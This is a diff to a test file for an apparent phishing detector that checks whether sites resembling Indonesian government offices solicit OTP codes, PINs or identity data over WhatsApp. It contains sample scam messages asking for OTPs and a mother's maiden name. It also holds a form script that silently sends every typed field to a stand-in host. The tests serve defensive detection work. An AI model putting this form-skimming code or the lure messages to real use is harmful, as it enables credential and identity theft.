@@ -37,6 +37,17 @@ def message(text: str, to: str = "https://wa.me/6281200000000") -> str:
         (message("Halo%20admin%2C%20kode%20OTP%20saya%20tidak%20masuk"), "clean"),
         (message("Jangan%20berikan%20kode%20OTP%20dan%20nomor%20rekening"), "clean"),
         (message(BLANKS, "https://www.contohkab.go.id/kirim"), "clean"),
+        (message("Pencairan%20rekening%0ANama%0AKode%20OTP"), "code"),
+        (message("Nama%20ibu%20kandung%20...%20OTP%20..."), "code"),
+        # Whoever has trouble with a code writes of it, and has no blank for it.
+        (
+            message("Halo%20admin%2C%20kode%20OTP%20untuk%20rekening%20saya%20tidak%20masuk"),
+            "clean",
+        ),
+        (message("Lapor%3A%20kartu%20ATM%20tertelan%20dan%20PIN%20lupa.%20Nama%3A"), "clean"),
+        (message("Kode%20OTP%20rekening%20tidak%20masuk%3A%0ANama%3A"), "clean"),
+        (message("Rekening%20bansos%20kosong%2C%20PIN%20saya%20tukar.%20Nama%3A"), "clean"),
+        (message("Nomor%20rekening%3A%0ASaya%20mau%20tanya%20tentang%20kode%20OTP"), "clean"),
     ],
 )
 def test_messages_with_blanks_for_codes(source: str, kind: str) -> None:
@@ -122,3 +133,18 @@ def test_what_is_typed_goes_to_a_stranger_and_on_to_a_messenger(
     verdict = judged(site(CHAT.format(sends, to)))
     assert verdict.message == kind
     assert (verdict.outcome is Outcome.FAIL) is (kind == "chat")
+
+
+WRITES = (
+    "<form onsubmit='return k(this)'><input name=nama><input name=hp><textarea name=pesan>"
+    "</textarea></form><script>function k(f){fetch('https://rekap.example/f/x',{method:'POST',"
+    "mode:'no-cors',body:new FormData(f)});window.open('https://wa.me/628?text='+f.nama.value);"
+    "return false}</script>"
+)
+
+
+def test_whoever_writes_to_an_office_says_name_and_number() -> None:
+    assert judged(site(WRITES)).message == "clean"
+    # Who somebody is, is more than that.
+    for more in ("<input name=nik><input name=ibu_kandung><input name=no_kk>", "<input name=pin>"):
+        assert judged(site(WRITES.replace("<textarea", f"{more}<textarea"))).message == "chat"
